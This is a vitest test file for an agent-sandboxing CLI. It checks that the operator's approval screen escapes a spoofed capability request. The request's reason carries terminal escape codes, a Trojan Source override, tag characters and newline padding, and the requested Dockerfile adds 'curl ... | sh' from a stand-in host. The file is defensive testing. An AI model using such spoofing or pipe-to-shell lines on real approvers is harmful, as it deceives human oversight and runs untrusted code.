import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { foldEvents, initialBottleState } from '../../src/machines/index.js';
import { MAX_SHOWN_REASON_LINES } from '../../src/shared/visible-text.js';
import { startHarness, type BottleHarness } from '../support/cli-harness.js';
import { history, launchSteps, samplePlan } from '../golden/fixtures.js';

/**
 * A bottle with a pending Dockerfile request whose reason and body carry
 * terminal escapes. What the operator's terminal gets from `events`, `list`
 * and `approve` holds no raw control character, `approve` shows the request
 * as a diff against the bottle's Dockerfile, and `--request` must name the
 * pending request. The log is written directly: no container is involved.
 */

/** What a terminal acts on or draws as nothing: controls but LF, invisible format characters, line separators. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}\u2028\u2029]/u;
const ID = 'spoof-a1b2c';
const SPOOFED_REASON = 'need pip\r\u001b[2K\u001b[1Aegress pypi.org:443 — need pip\u009b0m';
/** Issue 21 finding 7: invisible characters, a Trojan Source override, tag characters, and newline padding. */
const INVISIBLE = `\u200b\u202e\u{e0073}\u{e0068}${'\n'.repeat(60)}the real ending`;
const SHOWN_INVISIBLE = '\\u200b\\u202e\\u{e0073}\\u{e0068}';
const REQUESTED =
  'FROM debian:bookworm-slim\nRUN apt-get update\nRUN curl -s https://x.test/i.sh | sh\u001b[2K\nUSER node\n';

let h: BottleHarness;
let dir: string;

beforeAll(async () => {
  h = await startHarness();
  dir = mkdtempSync(join(tmpdir(), 'cb-approve-'));
  const dockerfile = join(dir, 'Dockerfile');
  writeFileSync(dockerfile, 'FROM debian:bookworm-slim\nRUN apt-get update\nUSER node\n');
  const image = { tag: 'claude-bottle/spoof:0123456789abcdef', context_hash: 'x', dockerfile, builtin: false };
  const plan = samplePlan(ID, { image, host: hostname(), manifest_path: join(dir, 'claude-bottle.json') });
  const events = history([
    ...launchSteps(ID, plan),
    [
      'capability.requested',
      {
        request_id: 'cap-7',
        kind: 'dockerfile',
        dockerfile: REQUESTED,
        reason: SPOOFED_REASON + INVISIBLE,
        queue_if_pending: true,
      },
    ],
  ]);
  await h.log.append(ID, 0, events, foldEvents(initialBottleState(ID), events));
});
afterAll(async () => {
  await h?.cleanup();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

function noRawControl(text: string): void {
  for (const line of text.split('\n')) expect(line).not.toMatch(CONTROL);
}

describe('what reaches the operator terminal', () => {
  it('events, as text and JSON, and list show no raw control character', async () => {
    const text = await h.cli(['events', ID]);
    expect(text.code).toBe(0);
    noRawControl(text.stdout);
    expect(text.stdout).toContain('need pip\\r\\x1b[2K\\x1b[1Aegress pypi.org:443');
    expect(text.stdout).toContain(`${SHOWN_INVISIBLE}\\n\\n`);
    const json = await h.cli(['events', ID, '--format', 'json']);
    noRawControl(json.stdout);
    const last = JSON.parse(json.stdout.trim().split('\n').at(-1)!);
    expect(last.data.reason).toBe(SPOOFED_REASON + INVISIBLE);
    const list = await h.cli(['list']);
    expect(list.code).toBe(0);
    noRawControl(list.stdout);
  });

  it('approve --request refuses a request other than the pending one, deciding nothing', async () => {
    const before = await h.log.lastSeq(ID);
    const result = await h.cli(['approve', ID, '--request', 'cap-6']);
    expect(result.code).toBe(2);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toMatch(/request cap-6 is not spoof-a1b2c's pending request \(that is cap-7\)/);
    expect(await h.log.lastSeq(ID)).toBe(before);
  });

  it('approve shows the full request, the Dockerfile as a diff, and approves exactly that request', async () => {
    const result = await h.cli(['approve', ID, '--request', 'cap-7'], { timeoutMs: 120_000 });
    noRawControl(result.stdout);
    noRawControl(result.stderr);
    const lines = result.stdout.split('\n');
    expect(lines).toContain(`request cap-7 from ${ID}: dockerfile`);
    expect(lines).toContain(
      `reason: need pip\\r\\x1b[2K\\x1b[1Aegress pypi.org:443 — need pip\\x9b0m${SHOWN_INVISIBLE}`,
    );
    // The padding is bounded: the request line stays on screen above it, what is left out is counted.
    expect(lines).toContain(`        … (${61 - (MAX_SHOWN_REASON_LINES - 1)} more lines)`);
    expect(lines).toContain(`requested Dockerfile, as a diff against the current one (${join(dir, 'Dockerfile')}):`);
    expect(lines).toContain('+ RUN curl -s https://x.test/i.sh | sh\\x1b[2K');
    expect(lines).toContain('  USER node');
    const approved = (await h.log.read(ID)).find((e) => e.type === 'capability.approved');
    expect(approved?.data).toMatchObject({ request_id: 'cap-7' });
  });
});
